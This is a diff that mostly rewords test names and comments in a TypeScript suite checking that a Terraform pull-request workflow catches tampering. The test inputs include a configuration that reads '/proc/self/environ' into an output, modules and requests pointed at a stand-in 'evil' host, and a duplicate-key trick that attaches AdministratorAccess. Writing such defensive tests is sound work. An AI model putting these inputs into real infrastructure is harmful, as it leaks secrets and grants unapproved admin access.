@@ -27,7 +27,7 @@ new ProdStack(app, versions);
 process.exitCode = synthesize(app, versions, options);
 `;
 
-/** An environment's class, with each setting on its own line, so that several changes merge. */
+/** An environment's class with each setting on its own line, so that several changes merge cleanly. */
 function environment(name: "dev" | "prod", settings: readonly string[]): string {
   return `import { App } from "cdktf";
 import { image } from "@pipelines/image-definition/load-image";
@@ -55,16 +55,16 @@ const settings = [
   "keep: { builds: 100 }",
   "terminateInstanceOnFailure: true",
 ];
-/** The settings with one of them replaced. */
+/** The settings, with one of them replaced. */
 const withSetting = (setting: string) =>
   settings.map((each) => (each.split(":")[0] === setting.split(":")[0] ? setting : each));
 
-/** Numbers of pull requests. */
+/** Pull request numbers. */
 const numbers = (function* count(): Generator<number, never> {
   for (let number = 10; ; number++) yield number;
 })();
 
-describeWithTerraform("Pull requests, by the steps of the workflows", (terraform) => {
+describeWithTerraform("Pull requests, run through the steps of the workflows", (terraform) => {
   let aws: LocalAws;
   let actions: Actions;
 
@@ -105,7 +105,7 @@ describeWithTerraform("Pull requests, by the steps of the workflows", (terraform
       environment(name, [...withSetting(setting), ...more]),
     );
   };
-  /** Replaces the configuration of both stacks by the result. */
+  /** Replaces the configuration of both stacks with the result. */
   const configuration = (change: (config: Record<string, object>) => object | string) => (folder: string) => {
     for (const stack of ["dev", "prod"]) {
       const file = path.join(folder, "stacks", stack, "cdk.tf.json");
@@ -122,11 +122,11 @@ describeWithTerraform("Pull requests, by the steps of the workflows", (terraform
     expect(byHand["apply prod"]?.log).toContain("Apply complete!");
   });
 
-  test("an honest one is planned, and needs nobody if it is routine", async () => {
+  test("an honest one is planned, and needs no approval if it is routine", async () => {
     const honest = await actions.open(1, edit("dev", 'schedule: "rate(1 day)"'));
     const { status, comments } = await actions.review(honest, actions.synthesize(honest));
     expect(status).toBe("success: Nothing needs approval.");
-    // prod did not change, and is not planned.
+    // prod did not change, so it is not planned.
     expect(comments).toHaveLength(1);
     expect(comments[0]).toContain("**Schedule changed**");
   });
@@ -175,7 +175,7 @@ describeWithTerraform("Pull requests, by the steps of the workflows", (terraform
       "has a stack whose name is not letters, digits, - and _",
     ],
     [
-      "a configuration of any size",
+      "a configuration of unlimited size",
       (folder) => {
         fs.truncateSync(path.join(folder, "stacks/dev/cdk.tf.json"), 1024 ** 3);
       },
@@ -186,7 +186,7 @@ describeWithTerraform("Pull requests, by the steps of the workflows", (terraform
     const { status, comments, jobs } = await actions.review(evil, actions.synthesize(evil, tamper));
     expect(jobs["stacks"]?.log).toContain(words);
     expect(comments).toEqual([]);
-    expect(status).toBe('failure: The job stacks ended with "failure": nobody could read the plans.');
+    expect(status).toBe('failure: The job stacks ended with "failure", so the plans were not available for review.');
   });
 
   const output = (value: string) => configuration((config) => ({ ...config, output: { a: { value } } }));
@@ -202,8 +202,8 @@ describeWithTerraform("Pull requests, by the steps of the workflows", (terraform
     ],
     ["a request", configuration((config) => ({ ...config, data: { http: { a: { url: "https://evil" } } } }))],
     ["a profile that runs a program", provider({ profile: "a", shared_config_files: ["/tmp/config"] })],
-    ["other addresses of AWS", provider({ endpoints: [{ sts: "https://evil" }] })],
-    ["the environment of the process in an output", output('${filebase64("/proc/self/environ")}')],
+    ["different AWS endpoints", provider({ endpoints: [{ sts: "https://evil" }] })],
+    ["the process environment in an output", output('${filebase64("/proc/self/environ")}')],
     ["a module", configuration((config) => ({ ...config, module: { a: { source: "https://evil/a.zip" } } }))],
     [
       "a provisioner",
@@ -225,13 +225,13 @@ describeWithTerraform("Pull requests, by the steps of the workflows", (terraform
     expect(await actions.approve(evil)).toBe(status);
   });
 
-  test("what exists twice is planned as it was reviewed", async () => {
+  test("a duplicate key is planned the way it was reviewed", async () => {
     const evil = await actions.open(numbers.next().value, edit("dev", 'schedule: "rate(2 days)"'));
     const twice = configuration((config) => {
       const policy = {
         aws_iam_role_policy_attachment: { a: { role: "x", policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess" } },
       };
-      // Terraform would merge both.
+      // Terraform would merge both "resource" objects.
       return `${JSON.stringify({ resource: policy }).slice(0, -1)},${JSON.stringify(config).slice(1)}`;
     });
     const { status, comments } = await actions.review(evil, actions.synthesize(evil, twice));
@@ -240,7 +240,7 @@ describeWithTerraform("Pull requests, by the steps of the workflows", (terraform
     expect(status).toBe("success: Nothing needs approval.");
   });
 
-  test("a stack that is left out needs approval", async () => {
+  test("a missing stack needs approval", async () => {
     const evil = await actions.open(numbers.next().value, () => undefined);
     const without = (folder: string) => {
       const file = path.join(folder, "manifest.json");
@@ -253,7 +253,7 @@ describeWithTerraform("Pull requests, by the steps of the workflows", (terraform
     expect(status).toBe("pending: prod: needs an approving review.");
   });
 
-  test("another account or state is shown, and planned by the deploy after an approval", async () => {
+  test("a different account or state is shown, and planned by the deploy after an approval", async () => {
     const moved = await actions.open(numbers.next().value, () => undefined);
     const change = provider({ allowed_account_ids: [account, "999900001111"] });
     const { status, comments } = await actions.review(moved, actions.synthesize(moved, change));
@@ -261,11 +261,11 @@ describeWithTerraform("Pull requests, by the steps of the workflows", (terraform
       /not planned, needs approval[^]*999900001111/,
     );
     expect(status).toBe("pending: dev and prod: needs an approving review.");
-    expect(await actions.approve(moved, "alice")).toContain("alice wrote some of it");
+    expect(await actions.approve(moved, "alice")).toContain("alice wrote part of it");
     expect(await actions.approve(moved)).toBe("success: dev and prod: approved by bob.");
   });
 
-  test("a run of another workflow with the same name, or of a fork, is not reviewed", async () => {
+  test("a run of another workflow with the same name, or from a fork, is not reviewed", async () => {
     const evil = await actions.open(numbers.next().value, () => undefined);
     const synth = actions.synthesize(evil);
     const other = await actions.review(evil, synth, { path: ".github/workflows/other.yml" });
@@ -274,7 +274,7 @@ describeWithTerraform("Pull requests, by the steps of the workflows", (terraform
     expect(fork.status).toMatch(/^failure: From a fork/);
   });
 
-  test("a repair of a base that cannot be synthesized needs approval, and is deployed with it", async () => {
+  test("a repair to a base that cannot be synthesized needs approval, and is deployed with it", async () => {
     actions.push((folder) => {
       fs.writeFileSync(path.join(folder, "stacks", "dev-stack.ts"), "export class DevStack {");
     });
@@ -287,7 +287,7 @@ describeWithTerraform("Pull requests, by the steps of the workflows", (terraform
     expect(jobs["apply dev"]?.log).toContain("Apply complete!");
   });
 
-  test("what needs approval and was merged without, by a forged status, is not deployed, nor by the next merge", async () => {
+  test("a change merged without the approval it needs, using a forged status, is not deployed, even by the next merge", async () => {
     const evil = await actions.open(
       numbers.next().value,
       edit("dev", 'images: [image("hello-world", { consumers: { accounts: ["999900001111"] } })]'),
